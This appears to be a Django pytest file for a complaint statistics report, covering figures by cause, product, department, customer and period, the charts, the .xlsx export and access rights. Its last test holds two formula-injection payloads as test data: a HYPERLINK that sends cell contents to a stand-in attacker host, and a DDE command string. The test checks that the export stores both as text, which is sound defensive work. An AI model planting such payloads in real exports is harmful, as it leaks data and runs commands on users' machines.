"""The complaint statistics report (投诉统计报表) on a fixed set: exact counts and shares by cause,
category, product, responsible department, customer and month / quarter / year; the period's
bounds; the page with its charts' data, the .xlsx export, and who may read it."""

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from kehu.support import complaint_report as report
from kehu.support import complaint_services as services
from kehu.support.tests.complaints_setup import ComplaintDesk, at

pytestmark = pytest.mark.django_db
PAGE = "/service/complaints/statistics/"


@pytest.fixture
def desk(team, customer_of):
    return ComplaintDesk(team, customer_of)


def investigate(desk, complaint, department, cause, now):
    complaint = services.complaint_step_complete(
        complaint=complaint, actor=desk.specialist, kind="notice", data={"department": department}, now=now
    )
    return services.complaint_step_complete(
        complaint=complaint,
        actor=desk.specialist,
        kind="investigation",
        data={"cause": cause, "responsibility": "ours", "findings": "查明"},
        now=now,
    )


@pytest.fixture
def fixed(desk):
    """Eight complaints: (registered, customer, product, department, cause)
    Jan: mine lathe quality manufacturing ×2, mine pump production material
    Feb: theirs lathe quality manufacturing, theirs pump — (not investigated)
    Apr: mine pump production transport
    Dec 2025 and Jan 2027 (outside 2026): mine lathe quality manufacturing ×2."""
    rows = [
        (at(5, 1), desk.mine, desk.lathe_a, desk.quality, "manufacturing"),
        (at(20, 1), desk.mine, desk.lathe_a, desk.quality, "manufacturing"),
        (at(31, 1, 23), desk.mine, desk.pump_1, desk.production, "material"),
        (at(2, 2), desk.theirs, desk.lathe_a, desk.quality, "manufacturing"),
        (at(27, 2), desk.theirs, desk.pump_1, None, None),
        (at(1, 4), desk.mine, desk.pump_1, desk.production, "transport"),
        (at(31, 12, 10, 0, 2025), desk.mine, desk.lathe_a, desk.quality, "manufacturing"),
        (at(1, 1, 10, 0, 2027), desk.mine, desk.lathe_a, desk.quality, "manufacturing"),
    ]
    for when, customer, spec, department, cause in rows:
        complaint = desk.register(customer=customer, specification=spec, now=when)
        if department is not None:
            investigate(desk, complaint, department, cause, when)


def table(rows) -> list[tuple]:
    return [(r.label, r.count, r.share) for r in rows]


def test_the_figures_of_a_year(desk, fixed):
    stats = report.complaint_stats(first=date(2026, 1, 1), last=date(2026, 12, 31), period="month")
    assert stats.total == 6
    assert table(stats.by_period) == [("2026-01", 3, 50.0), ("2026-02", 2, 33.3), ("2026-04", 1, 16.7)]
    assert table(stats.by_cause) == [
        ("Manufacturing or assembly", 3, 50.0),
        ("Not yet investigated", 1, 16.7),
        ("Material or purchased part", 1, 16.7),
        ("Transport", 1, 16.7),
    ]
    assert table(stats.by_product) == [("数控车床", 3, 50.0), ("冷却泵", 3, 50.0)]
    assert table(stats.by_department) == [("质量部", 3, 50.0), ("生产部", 2, 33.3), ("Not yet assigned", 1, 16.7)]
    assert table(stats.by_customer) == [("宁波精工机床有限公司", 4, 66.7), ("广州南方塑料制品厂", 2, 33.3)]
    assert table(stats.by_category) == [("Product quality", 6, 100.0)]
    quarters = report.complaint_stats(first=date(2026, 1, 1), last=date(2026, 12, 31), period="quarter")
    assert table(quarters.by_period) == [("2026-Q1", 5, 83.3), ("2026-Q2", 1, 16.7)]
    years = report.complaint_stats(first=date(2025, 12, 1), last=date(2027, 1, 31), period="year")
    assert table(years.by_period) == [("2025", 1, 12.5), ("2026", 6, 75.0), ("2027", 1, 12.5)]
    # The bounds are days in Shanghai: 31 January 23:00 counts in January.
    january = report.complaint_stats(first=date(2026, 1, 1), last=date(2026, 1, 31))
    assert january.total == 3 and table(january.by_product) == [("数控车床", 2, 66.7), ("冷却泵", 1, 33.3)]


def test_the_largest_products_and_customers_then_the_rest(desk, fixed):
    stats = report.complaint_stats(first=date(2026, 1, 1), last=date(2026, 12, 31), top=1)
    assert table(stats.by_customer) == [("宁波精工机床有限公司", 4, 66.7), ("Others (1)", 2, 33.3)]


def test_the_page_the_charts_and_the_export(client, desk, team, fixed):
    client.force_login(desk.specialist)
    response = client.get(PAGE + "?first=2026-01-01&last=2026-12-31&period=month")
    assert response.status_code == 200
    chart = response.context["chart"]
    assert chart["period"] == {"labels": ["2026-01", "2026-02", "2026-04"], "counts": [3, 2, 1]}
    assert chart["department"]["counts"] == [3, 2, 1]
    assert 'id="chart-cause"' in response.content.decode() and "echarts.min.js" in response.content.decode()
    export = client.get(PAGE + "export/?first=2026-01-01&last=2026-12-31&period=quarter")
    assert export["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(export.content))
    assert book.sheetnames == [
        "Summary",
        "By cause",
        "By category",
        "By product",
        "By responsible department",
        "By customer",
        "By period",
    ]
    assert [list(r) for r in book["By period"].iter_rows(values_only=True)] == [
        ["Period", "Complaints", "Share (%)"],
        ["2026-Q1", 5, 83.3],
        ["2026-Q2", 1, 16.7],
    ]
    response = client.get(PAGE + "?first=2026-12-31&last=2026-01-01")
    assert response.status_code == 200 and response.context["stats"] is None


def test_only_those_who_see_every_customer_read_the_report(client, desk, team):
    for user, expected in ((team.rep1, 403), (team.manager1, 403), (desk.csr, 403), (team.marketing1, 403)):
        client.force_login(user)
        assert client.get(PAGE).status_code == expected, user
        assert client.get(PAGE + "export/").status_code == expected, user
    for user in (desk.specialist, team.service1, team.gm, desk.inspector, team.admin):
        client.force_login(user)
        assert client.get(PAGE).status_code == 200, user
    client.logout()
    assert client.get(PAGE).status_code == 302


def test_names_in_the_export_are_text_never_formulas(client, desk, fixed):
    """A customer or product named like a formula is a text cell holding the name as stored."""
    from kehu.catalog.models import Product
    from kehu.customers.models import Customer

    customer_name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    product_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    type(desk.mine).objects.filter(pk=desk.mine.pk).update(name=customer_name)
    Product.objects.filter(pk=desk.lathe_a.product_id).update(name=product_name)
    assert Customer.objects.filter(name=customer_name).exists()
    client.force_login(desk.specialist)
    export = client.get(PAGE + "export/?first=2026-01-01&last=2026-12-31&period=quarter")
    book = load_workbook(io.BytesIO(export.content))
    for sheet, name in (("By customer", customer_name), ("By product", product_name)):
        cells = {row[0].value: row[0] for row in book[sheet].iter_rows(min_row=2)}
        assert name in cells, list(cells)
        assert (cells[name].data_type, cells[name].number_format) == ("s", "@")
